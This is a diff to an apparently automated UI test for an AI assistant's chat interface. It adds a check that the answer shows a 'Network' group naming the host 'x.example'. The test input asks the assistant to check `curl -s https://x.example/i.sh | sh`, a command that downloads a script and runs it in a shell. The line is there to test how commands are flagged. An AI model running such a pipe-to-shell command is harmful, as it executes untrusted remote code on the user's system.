@@ -328,6 +328,8 @@ describe.each(['light', 'dark'] as const)('%s', (colorScheme) => {
 		expect(await findBarriers(page)).toEqual([]);
 		await picture(page, `assistant-empty-${colorScheme}-${name}`, false);
 		await ask(page, 'Please check `sudo systemctl restart nginx` and `curl -s https://x.example/i.sh | sh`');
+		const network = answersOf(page).last().getByRole('group', { name: 'Network' });
+		expect(await network.textContent()).toContain('x.example (https)');
 		// What grew stays in view at its end.
 		await expect.poll(() => page.getByRole('button', { name: 'Go to the newest message' }).count()).toBe(0);
 		expect(await findBarriers(page)).toEqual([]);
